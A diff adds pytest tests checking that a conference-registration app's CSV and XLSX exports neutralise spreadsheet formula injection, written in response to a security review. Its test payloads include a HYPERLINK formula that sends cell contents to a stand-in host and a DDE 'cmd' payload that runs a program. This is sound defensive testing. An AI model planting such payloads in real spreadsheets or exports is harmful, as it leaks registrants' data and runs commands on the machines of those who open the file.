@@ -14,6 +14,7 @@ from kongres.orga.exports import (
     export_xlsx,
 )
 from kongres.registration.choices import QuestionKind, Sector, Voivodeship
+from kongres.registration.models import Registration
 from tests.factories import DayFactory, EditionFactory, TrackFactory
 from tests.factories.registration import (
     QuestionFactory,
@@ -142,3 +143,71 @@ def test_xlsx_writes_no_cell_for_an_empty_text(edition):
     sheet = archive.read("xl/worksheets/sheet1.xml").decode()
     # header 2 cells, Żaneta 2 cells, Łukasz 1 cell (no answer)
     assert sheet.count("<c ") == 5
+
+
+# -- formula injection (security review 2026-12, M2) ----------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://x.example/?"&C2&E2,"Click")',
+    "+48 600 000 000",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def formulas(edition):
+    """Registrations whose free texts (institution, a text answer) and a question label
+    (a column header) start like a formula."""
+    QuestionFactory(
+        edition=edition, slug="uwagi", label_pl="=uwagi", label_en="=notes", kind=QuestionKind.TEXT
+    )
+    for number, payload in enumerate(FORMULAS):
+        registration = RegistrationFactory(
+            edition=edition,
+            data__email=f"formula{number}@example.org",
+            data__day_ids=[edition.days.get().pk],
+            data__institution=payload,
+            data__answers={"uwagi": payload},
+        )
+        if payload[0] in "\t\r":  # the form strips these; the admin's text fields keep them
+            Registration.objects.filter(pk=registration.pk).update(
+                institution=payload, answers={"uwagi": payload}
+            )
+        else:
+            assert (registration.institution, registration.answers["uwagi"]) == (payload, payload)
+    return edition
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_read_as_a_formula(formulas):
+    rows = csv_rows(formulas, {"q": "formula", "sort": "created"}, ["institution", "answer_uwagi"])
+
+    assert rows[0] == ["instytucja", "'=uwagi"]
+    assert rows[1:] == [["'" + payload, "'" + payload] for payload in FORMULAS]
+
+
+def test_csv_leaves_ordinary_text_and_numbers_alone(edition):
+    rows = csv_rows(edition, {"sort": "created"}, ["id", "last_name", "institution"])
+
+    assert [row[1:] for row in rows[1:]] == [
+        ["Gęślą-Jaźń", "Urząd Miasta Krakowa"],
+        ["Ćwik", "Urząd Miasta Krakowa"],
+    ]
+    assert all(row[0].isdigit() for row in rows[1:])
+
+
+def test_xlsx_keeps_formula_like_text_as_text_cells(formulas):
+    columns = export_columns_chosen(edition=formulas, keys=["institution", "answer_uwagi"])
+    with export_xlsx(
+        edition=formulas, params={"q": "formula", "sort": "created"}, columns=columns
+    ) as file:
+        sheet = load_workbook(io.BytesIO(file.read())).active
+
+    assert sheet["B1"].value == "=uwagi" and sheet["B1"].data_type == "s"
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    # as typed (XML reads a lone carriage return as a line feed)
+    expected = [payload.replace("\r", "\n") for payload in FORMULAS for _ in range(2)]
+    assert [cell.value for cell in cells] == expected
+    assert {cell.data_type for cell in cells} == {"s"}  # strings, not formulas ("f")
